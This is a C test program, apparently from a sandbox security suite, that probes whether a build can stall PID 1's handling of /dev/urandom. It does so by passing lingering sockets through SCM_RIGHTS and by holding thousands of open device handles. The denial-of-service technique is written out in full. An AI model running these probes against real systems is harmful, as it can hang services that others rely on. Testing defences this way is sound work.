// What a build can do to PID 1 by the devices of random numbers.
// `devices linger DEVICE`: sends DEVICE, opened for reading and writing, the last reference to a connection that lingers; then reads.
// `devices linger`: the same to a process that receives and drops it, as one would that answers for a device.
// `devices many`: six processes keep a thousand openings each; then reads.
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>

// A connection that holds whoever closes it: what was sent is never read.
static int lingering(void) {
    static char bytes[1 << 16];
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof place;
    int server = socket(AF_INET, SOCK_STREAM, 0), one = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, (void *)&place, size) || listen(server, 5) || getsockname(server, (void *)&place, &size) ||
        connect(one, (void *)&place, size) || accept(server, 0, 0) < 0)
        exit(3);
    for (int idle = 0; idle < 20; usleep(1000)) idle = send(one, bytes, sizeof bytes, MSG_DONTWAIT) > 0 ? 0 : idle + 1;
    struct linger how = {1, 30000};
    if (setsockopt(one, SOL_SOCKET, SO_LINGER, &how, sizeof how)) exit(3);
    return one;
}

static const char *give(int to, int what) {
    char control[CMSG_SPACE(sizeof(int))];
    struct iovec byte = {"x", 1};
    struct msghdr message = {.msg_iov = &byte, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &what, sizeof(int));
    return sendmsg(to, &message, 0) == 1 ? "sent" : strerrorname_np(errno);
}

// Reads a megabyte of a device that was opened just now.
static void look(void) {
    static char bytes[1 << 16];
    int device = open("/dev/urandom", O_RDONLY | O_CLOEXEC), tries = 0;
    long count = 0;
    fcntl(device, F_SETFL, O_NONBLOCK);
    while (count < 1 << 20 && tries < 5000) {
        ssize_t more = read(device, bytes, sizeof bytes);
        if (more > 0) count += more;
        else tries++, usleep(1000);
    }
    if (count >= 1 << 20) puts("a megabyte");
    else printf("%ld bytes\n", count);
}

static void hold(int ready) {
    int count = 0;
    while (count < 1000 && open("/dev/urandom", O_RDONLY) >= 0) count++;
    if (write(ready, &count, sizeof count) != sizeof count) exit(3);
    pause();
    exit(0);
}

static int many(void) {
    int ready[2], count, all = 0;
    pid_t holders[6];
    if (pipe(ready)) return 3;
    for (int i = 0; i < 6; i++)
        if ((holders[i] = fork()) == 0) hold(ready[1]);
    for (int i = 0; i < 6 && read(ready[0], &count, sizeof count) == sizeof count; i++) all += count;
    printf("%d are open\n", all);
    look();
    for (int i = 0; i < 6; i++) kill(holders[i], SIGKILL);
    while (wait(NULL) > 0) continue;
    return 0;
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(words[1], "many")) return many();
    int ends[2], done[2];
    pid_t receiver = 0;
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) || pipe(done)) return 3;
    if (count < 3 && (receiver = fork()) == 0) {
        char byte;
        close(ends[0]);
        // The sender has closed its own by then.
        usleep(300000);
        if (recv(ends[1], &byte, 1, 0) != 1 || write(done[1], &byte, 1) != 1) exit(3);
        exit(0);
    }
    pid_t sender = fork();
    if (sender == 0) {
        int device = count < 3 ? ends[0] : open(words[2], O_RDWR), one = lingering();
        const char *answer = give(device, one);
        printf("%s\n", answer);
        // Here it lingers, or there.
        close(one);
        if (write(done[1], "s", 1) != 1) exit(3);
        pause();
    }
    sleep(1);
    char who[3] = "";
    fcntl(done[0], F_SETFL, O_NONBLOCK);
    if (read(done[0], who, 2) < 0) puts("the sender waits");
    else puts(strchr(who, 'x') ? "the receiver goes on" : "the receiver waits");
    look();
    if (receiver) kill(receiver, SIGKILL);
    kill(sender, SIGKILL);
    while (wait(NULL) > 0) continue;
    return 0;
}
